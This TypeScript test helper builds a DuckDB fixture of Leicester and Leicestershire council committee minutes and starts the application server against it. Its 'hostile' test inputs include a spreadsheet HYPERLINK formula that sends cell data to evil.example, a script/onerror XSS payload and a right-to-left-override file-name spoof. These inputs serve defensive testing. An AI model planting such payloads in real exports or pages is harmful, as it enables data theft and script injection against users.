import { once } from 'node:events';
import { cp, mkdtemp, readFile, rename, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { Router } from 'express';
import { openWork, settle } from '../../etl/load/settle.ts';
import { SETTLING } from '../../etl/load/tables.ts';
import { createApp } from '../../server/app.ts';
import { normalizeConfig } from '../../server/config.ts';
import type { Config, Context } from '../../server/context.ts';
import { openContext } from '../../server/open.ts';

const root = join(import.meta.dirname, '../..');

/** Text that minutes may hold and nothing may run: a formula, a script, a mark that turns reading around. */
export const hostile = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Apologies")',
  script: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  bidi: 'Budget \u202egnp.exe\u202c "quoted", and; more',
};

const rows = `
insert into councils values
  ('leicester', 'Leicester City Council', 'unitary', 'E06000016', '856', 'City', true),
  ('leicestershire', 'Leicestershire County Council', 'county', 'E10000018', '855', 'County', true);
insert into committees values
  ('leicester-cype', 'leicester', 'Children, Young People and Education Scrutiny Commission', true),
  ('leicestershire-cfosc', 'leicestershire', 'Children and Families Overview and Scrutiny Committee', true);
insert into meetings (meeting_id, committee_id, meeting_date, date_basis) values
  ('leicester-cype-2025-06-24', 'leicester-cype', '2025-06-24', 'stated'),
  ('leicestershire-cfosc-2024-09-03', 'leicestershire-cfosc', '2024-09-03', 'stated'),
  ('leicestershire-cfosc-2025-09-02', 'leicestershire-cfosc', '2025-09-02', 'stated');
insert into themes values
  ('learning', null, 'Learning', 'Schools and needs'),
  ('send', 'learning', 'Special needs', 'SEND'),
  ('schools', 'learning', 'Schools', 'Places and standards');
insert into documents (document_id, path, text) values ('d1', 'city.txt', 'text');
insert into items (item_id, meeting_id, document_id, position, title, is_procedural, completeness, text, words) values
  ('c1', 'leicester-cype-2025-06-24', 'd1', 1, $formula, false, 'complete', 'text', 120),
  ('c2', 'leicester-cype-2025-06-24', 'd1', 2, $script, false, 'truncated', 'text', 80),
  ('l1', 'leicestershire-cfosc-2024-09-03', 'd1', 1, $bidi, false, 'complete', 'text', 300),
  ('l2', 'leicestershire-cfosc-2025-09-02', 'd1', 1, 'School places', false, 'complete', 'text', 45);
insert into item_themes values
  ('c1', 'send', 1, ['send']), ('c2', 'schools', 1, ['school']), ('l1', 'send', 0.5, ['needs']),
  ('l1', 'schools', 0.5, ['school']), ('l2', 'schools', 1, ['school']);
insert into indicators (indicator_id, label, unit) values ('ehcp-20-weeks', 'Plans within 20 weeks', 'percent');
insert into figures (figure_id, item_id, document_id, value, unit, measure, indicator_id, quote) values
  ('f0123456789ab', 'l1', 'd1', 58, 'percent', $script, 'ehcp-20-weeks', 'only 58%');
insert into builds values ($build, timestamp '2026-01-02 03:04:05', '{}', 5, 'code');
`;

/** Writes a small database by the schema of the ETL, whole and by renaming, as the ETL does. */
export async function writeDatabase(path: string, build = 'b1', extra = ''): Promise<void> {
  const instance = await DuckDBInstance.create(`${path}.new`);
  const connection = await instance.connect();
  await connection.run(await readFile(join(root, 'etl/schema.sql'), 'utf8'));
  const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`;
  const values: Record<string, string> = { ...hostile, build };
  const sql = rows.replace(/\$(\w+)/g, (_, name: string) => quoted(values[name]!));
  for (const statement of sql.split(/;\n/)) if (statement.trim()) await connection.run(statement);
  await openWork(connection);
  for (const name of SETTLING.filter(name => /^(spans|counts|lists)\b/.test(name)))
    await settle(connection, name);
  for (const statement of extra.split(/;\n/)) if (statement.trim()) await connection.run(statement);
  await connection.run('checkpoint');
  connection.closeSync();
  instance.closeSync();
  await rename(`${path}.new`, path);
}

/** A running server on a port of its own, with its folder. */
export interface Running {
  url: string;
  folder: string;
  config: Config;
  context: Context;
  messages: string[];
  stop(): Promise<void>;
}

/** Starts the real application over the fixture and its own charts. */
export async function start(
  settings: Partial<Config> = {},
  environment: Record<string, string> = {},
): Promise<Running> {
  const folder = await mkdtemp(join(tmpdir(), 'minutewise-server-'));
  const queries = join(folder, 'queries');
  await cp(join(root, 'test/server/queries'), queries, { recursive: true });
  await cp(join(root, 'queries/theme.json'), join(queries, 'theme.json'));
  await cp(join(root, 'queries/pages/feed-entries.sql'), join(queries, 'pages/feed-entries.sql'));
  await writeDatabase(join(folder, 'councils.duckdb'));
  const config: Config = {
    ...normalizeConfig({ PORT: '0', HOST: '127.0.0.1', LOG_LEVEL: 'silent', ...environment }),
    database: join(folder, 'councils.duckdb'),
    queries,
    client: join(folder, 'dist'),
    ...settings,
  };
  const messages: string[] = [];
  const context = await openContext(config, message => messages.push(message));
  const pages = Router();
  const app = createApp({
    context,
    pages,
    problemPage: ({ message }) => `<p>${message.replace(/[<>&]/g, '')}</p>`,
  });
  const server = createServer(app).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    folder,
    config,
    context,
    messages,
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await context.database.close();
      await rm(folder, { recursive: true, force: true });
    },
  };
}
